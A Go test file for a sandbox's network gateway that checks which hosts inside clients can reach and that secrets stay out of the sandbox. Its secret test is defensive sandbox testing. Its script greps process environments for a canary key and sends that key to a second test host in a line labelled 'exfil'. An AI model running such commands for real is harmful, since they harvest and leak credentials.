package main

// Network tests: real clients inside the sandbox (curl, python3, git) reach
// a real HTTPS server on loopback through airlock's gateway. The server sits
// on port 443 of a loopback address of its own (the gateway intercepts ports
// 80 and 443 only), which takes root to bind: as root the test starts it;
// the unprivileged re-run gets the one its root parent started (see
// TestUnprivileged), so both kinds of user are covered.

import (
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/airlock-dev/airlock/internal/supervisor"
)

// upstream is the HTTPS server the sandbox talks to. Its certificate is
// httptest's (valid for example.com), and it logs each request's
// Authorization header to a file so tests can see what really left.
type upstream struct {
	addr, caFile, logFile string
}

const upstreamAddr = "127.0.0.3:443"

var (
	upstreamOnce sync.Once
	upstreamInfo *upstream
	upstreamErr  error
)

func testUpstream(t *testing.T) *upstream {
	t.Helper()
	if a := os.Getenv("AIRLOCK_TEST_UPSTREAM"); a != "" {
		return &upstream{addr: a, caFile: os.Getenv("AIRLOCK_TEST_UPSTREAM_CA"), logFile: os.Getenv("AIRLOCK_TEST_UPSTREAM_LOG")}
	}
	if os.Getuid() != 0 {
		t.Skip("binding the test server's port 443 needs root (run the suite as root: it re-runs these tests unprivileged)")
	}
	upstreamOnce.Do(func() { upstreamInfo, upstreamErr = startUpstream() })
	if upstreamErr != nil {
		t.Fatal(upstreamErr)
	}
	return upstreamInfo
}

// startUpstream serves HTTPS on upstreamAddr for the whole test binary: an
// echo of the Authorization header, and git's smart HTTP for /git/.
func startUpstream() (*upstream, error) {
	dir, err := os.MkdirTemp("", "airlock-upstream-")
	if err != nil {
		return nil, err
	}
	os.Chmod(dir, 0o755)
	u := &upstream{addr: upstreamAddr, caFile: filepath.Join(dir, "ca.pem"), logFile: filepath.Join(dir, "received.log")}
	logf, err := os.OpenFile(u.logFile, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, err
	}
	repo := filepath.Join(dir, "git", "demo.git")
	work := filepath.Join(dir, "work")
	for _, args := range [][]string{
		{"init", "-q", "--bare", repo},
		{"init", "-q", work},
		{"-C", work, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "hello from upstream"},
		{"-C", work, "push", "-q", repo, "HEAD:refs/heads/main"},
		{"-C", repo, "symbolic-ref", "HEAD", "refs/heads/main"},
	} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			return nil, fmt.Errorf("git %v: %v: %s", args, err, out)
		}
	}
	var mu sync.Mutex
	mux := http.NewServeMux()
	mux.Handle("/git/", &cgi.Handler{Path: "/usr/lib/git-core/git-http-backend", Root: "/git",
		Env: []string{"GIT_PROJECT_ROOT=" + filepath.Join(dir, "git"), "GIT_HTTP_EXPORT_ALL=1"}})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		fmt.Fprintf(logf, "%s %s %s\n", r.Method, r.URL.Path, r.Header.Get("Authorization"))
		mu.Unlock()
		fmt.Fprintf(w, "echo %s\n", r.Header.Get("Authorization"))
	})
	ln, err := net.Listen("tcp", upstreamAddr)
	if err != nil {
		return nil, err
	}
	srv := httptest.NewUnstartedServer(mux)
	srv.Listener.Close()
	srv.Listener = ln
	srv.EnableHTTP2 = true
	srv.StartTLS()
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.TLS.Certificates[0].Certificate[0]})
	if err := os.WriteFile(u.caFile, ca, 0o644); err != nil {
		return nil, err
	}
	return u, nil
}

func (u *upstream) received(t *testing.T) string {
	b, err := os.ReadFile(u.logFile)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func (u *upstream) flags(extra ...string) []string {
	return append([]string{"run", "-q", "--add-host", "example.com:" + strings.Split(u.addr, ":")[0], "--upstream-ca", u.caFile}, extra...)
}

// networkModes are the doors this user's sandboxes can take: both where the
// TAP device can be made (root here), else the proxy only.
func networkModes() []string {
	if mode, _, _ := supervisor.NetworkMode(supervisor.ModeAuto); mode == supervisor.ModeTransparent {
		return []string{supervisor.ModeTransparent, supervisor.ModeProxy}
	}
	return []string{supervisor.ModeProxy}
}

// eachMode runs f once per network mode, as a subtest.
func eachMode(t *testing.T, f func(t *testing.T, mode string)) {
	for _, m := range networkModes() {
		t.Run(m, func(t *testing.T) { f(t, m) })
	}
}

func needTransparent(t *testing.T) {
	t.Helper()
	if mode, why, _ := supervisor.NetworkMode(supervisor.ModeAuto); mode != supervisor.ModeTransparent {
		t.Skip("no transparent network for this user: " + why)
	}
}

func TestClientsInsideReachAllowedHostsThroughTheGateway(t *testing.T) {
	u := testUpstream(t)
	eachMode(t, func(t *testing.T, mode string) {
		e := newEnv(t)
		script := `
		curl -sS --http2 https://example.com/curl
		python3 -c 'import urllib.request; print(urllib.request.urlopen("https://example.com/python").read().decode().strip())'
		git clone -q https://example.com/git/demo.git clone && git -C clone log --format=%s
		curl -sS -o /dev/null -w "other.test %{http_connect} %{exitcode}\n" https://other.test/ 2>/dev/null
		curl -sS -o /dev/null -w "port 8443 %{http_connect} %{exitcode}\n" https://example.com:8443/ 2>/dev/null
		true`
		want := []string{"echo \necho\n", "hello from upstream"}
		if mode == supervisor.ModeTransparent {
			// No proxy: a refused name does not resolve (curl: 6), a refused
			// port is reset (7), and clients that ignore HTTPS_PROXY work.
			want = append(want, "other.test 000 6", "port 8443 000 7")
			if node, err := exec.LookPath("node"); err == nil {
				script = node + ` -e 'fetch("https://example.com/node").then(r => r.text()).then(t => console.log("node", t.trim()))'` + script
				want = append(want, "node echo")
			} else {
				t.Log("node is not installed: fetch from Node.js not tried")
			}
		} else {
			want = append(want, "other.test 403 56", "port 8443 403 56")
		}
		r := e.run(append(u.flags("--network-mode", mode, "--allow-host", "example.com"), "--", "sh", "-c", script)...)
		for _, w := range want {
			if !strings.Contains(r.stdout, w) {
				t.Errorf("missing %q in %v", w, r)
			}
		}
	})
}

func TestSecretsNeverEnterTheSandbox(t *testing.T) {
	u := testUpstream(t)
	eachMode(t, func(t *testing.T, mode string) {
		e := newEnv(t)
		real := fmt.Sprintf("sk-canary-%d-value", os.Getpid())
		c := e.cmd(append(u.flags("--network-mode", mode, "--secret", "API_KEY@example.com", "--allow-host", "other.test", "--add-host", "other.test:"+strings.Split(u.addr, ":")[0]), "--", "sh", "-c", `
		echo "env: $API_KEY"
		grep -als sk-canary /proc/[0-9]*/environ
		curl -sS https://example.com/with-secret -H "Authorization: Bearer $API_KEY"
		curl -sS -o /dev/null -w "exfil %{http_code}\n" "https://other.test/?k=$API_KEY" 2>/dev/null
		true`)...)
		c.Env = e.environ("API_KEY=" + real)
		r := e.runCmd(c)
		if strings.Contains(r.stdout, real) {
			t.Fatalf("the real value reached the sandbox: %v", r)
		}
		if !strings.Contains(r.stdout, "env: airlock-ph-") {
			t.Errorf("the sandbox should see a placeholder: %v", r)
		}
		if got := u.received(t); !strings.Contains(got, "GET /with-secret Bearer "+real) {
			t.Errorf("upstream should have received the real value; it logged:\n%s", got)
		}
		if !strings.Contains(r.stdout, "exfil 403") {
			t.Errorf("a placeholder toward another host should be refused with 403: %v", r)
		}
		if strings.Contains(r.stdout, "/environ") {
			t.Errorf("a process inside has the value in its environment: %v", r)
		}
	})
}
